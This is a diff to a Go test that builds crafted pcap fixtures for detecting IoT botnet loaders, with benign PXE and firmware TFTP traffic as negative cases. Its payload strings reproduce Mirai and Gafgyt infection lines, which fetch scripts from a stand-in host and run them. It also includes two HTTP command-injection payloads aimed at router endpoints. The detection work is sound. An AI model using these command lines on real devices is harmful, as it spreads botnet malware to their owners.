@@ -265,6 +265,59 @@ func craftedFiles(t testing.TB) []craftedFile {
 			frame{layers.LinkTypeRaw, ip6UDP(t, victim6, infected6, 1063, 69, msblast)})
 		add("linux-sll.pcap", frame{layers.LinkTypeLinuxSLL, append(sllHeader(layers.EthernetTypeIPv4), ipUDP(t, victim, infected, 1064, 69, msblast)...)})
 	}
+	{
+		// Today's IoT loaders, after their published command lines: the
+		// Mirai loader's "busybox tftp -g -l dvrHelper -r mirai.<arch>",
+		// the Gafgyt infect line's "tftp <ip> -c get tftp1.sh" and
+		// "tftp -r tftp2.sh -g <ip>", bots named by CPU. busybox 1.35 sends
+		// octet with "tsize 0" (and blksize with -b), tftp-hpa netascii
+		// unless told otherwise: testdata/pcap/real/busybox-mirai-gafgyt-loader.pcap.
+		add("loader-tftp.pcap", en(
+			udp4(t, victim, infected, 40001, 69, rrq(1, "mirai.arm7", "octet", "tsize", "0")),
+			udp4(t, victim, infected, 40002, 69, rrq(1, "mirai.mips", "octet", "tsize", "0")),
+			udp4(t, victim, infected, 40003, 69, rrq(1, "tftp1.sh", "netascii")),
+			udp4(t, victim, infected, 40004, 69, rrq(1, "tftp2.sh", "octet", "blksize", "1468")),
+			udp4(t, victim, infected, 40005, 69, rrq(1, "bin2.sh", "octet")),
+			udp4(t, victim, infected, 40006, 69, rrq(1, "Akiru.MPSL", "octet")),
+			udp4(t, victim, infected, 40007, 69, rrq(1, "/bins/sora.m68k", "octet")),
+			ser(t, eth(layers.EthernetTypeIPv6), func() gopacket.SerializableLayer {
+				return ip6(victim6, infected6, layers.IPProtocolUDP)
+			}(), func() gopacket.SerializableLayer {
+				u := &layers.UDP{SrcPort: 40008, DstPort: 69}
+				u.SetNetworkLayerForChecksum(ip6(victim6, infected6, layers.IPProtocolUDP))
+				return u
+			}(), gopacket.Payload(rrq(1, "x86.arm5", "octet"))),
+		)...)
+		loader := "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n"
+		gafgyt := "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://10.0.0.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 10.0.0.9 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 10.0.0.9; chmod 777 tftp2.sh; sh tftp2.sh\r\n"
+		body := "POST /picsdesc.xml HTTP/1.1\r\nHost: 10.0.0.5:80\r\nContent-Type: text/xml\r\n\r\n<NewInternalClient>`cd /tmp;busybox+tftp+10.0.0.9+-c+get+tftp1.sh;sh+tftp1.sh`</NewInternalClient>"
+		body2 := "GET /shell?cd+/tmp;busybox+tftp+-r+tftp2.sh+-g+10.0.0.9;sh+tftp2.sh HTTP/1.1\r\nHost: 10.0.0.5:8080\r\n\r\n"
+		add("loader-commands.pcap", en(
+			tcpTo(t, infected, victim, 41001, 23, loader),
+			tcpTo(t, infected, victim, 41002, 2323, loader),
+			tcpTo(t, infected, victim, 41003, 23, gafgyt),
+			tcpTo(t, infected, victim, 41004, 2323, gafgyt),
+			tcpTo(t, infected, victim, 41005, 80, body),
+			tcpTo(t, infected, victim, 41006, 8080, body2),
+		)...)
+		// Legitimate: PXE, iPXE, bootloaders, kernels, phone and switch
+		// provisioning, router configs and firmware; an administrator
+		// typing a TFTP fetch into a router's telnet; ordinary HTTP.
+		var legit []frame
+		for i, f := range []string{"pxelinux.0", "bootx64.efi", "grubx64.efi", "undionly.kpxe", "ipxe.efi", "snponly.efi",
+			"ldlinux.c32", "vmlinuz", "initrd.img", "zImage", "uImage", "memtest86+.bin", "yaboot", "lpxelinux.0",
+			"pxelinux.cfg/default", "SPA504G-7.6.2.cfg", "SEP001122334455.cnf.xml", "XMLDefault.cnf.xml",
+			"c2960-lanbasek9-mz.150-2.SE11.bin", "openwrt-ath79-generic-tplink_archer-c7-v2-squashfs-factory.bin",
+			"router-confg", "firmware.bin", "MikroTik-6.49.img", "tftpboot.img", "armv7-rootfs.tar", "arm64/Image"} {
+			legit = append(legit, en(udp4(t, other, infected, uint16(42000+i), 69, rrq(1, f, "octet")))...)
+		}
+		legit = append(legit, en(
+			tcpTo(t, other, infected, 43001, 23, "copy tftp://10.0.0.9/c2960-lanbasek9-mz.bin flash:\r\n"),
+			tcpTo(t, other, infected, 43002, 23, "tftp -g -r firmware.bin 10.0.0.9\r\n"),
+			tcpTo(t, other, infected, 43003, 80, "GET /firmware/pxelinux.0 HTTP/1.1\r\nHost: boot.example\r\n\r\n"),
+		)...)
+		add("legit-boot.pcap", legit...)
+	}
 	// A pcapng with two interfaces of different link types.
 	files = append(files, craftedFile{name: "mixed.pcapng", ng: true, frames: []frame{
 		{layers.LinkTypeEthernet, udp4(t, victim, infected, 1070, 69, msblast)},
@@ -343,4 +396,12 @@ func TestCraftedUpToDate(t *testing.T) {
 			t.Errorf("%s differs from what the generator makes (run with -update)", path)
 		}
 	}
+}
+
+// tcpTo is an Ethernet/IPv4/TCP frame with a payload.
+func tcpTo(t testing.TB, src, dst net.IP, sport, dport uint16, payload string) []byte {
+	ip := ip4(src, dst, layers.IPProtocolTCP)
+	tcp := &layers.TCP{SrcPort: layers.TCPPort(sport), DstPort: layers.TCPPort(dport), Seq: 1, Ack: 1, PSH: true, ACK: true, Window: 65535, DataOffset: 5}
+	tcp.SetNetworkLayerForChecksum(ip)
+	return ser(t, eth(layers.EthernetTypeIPv4), ip, tcp, gopacket.Payload(payload))
 }
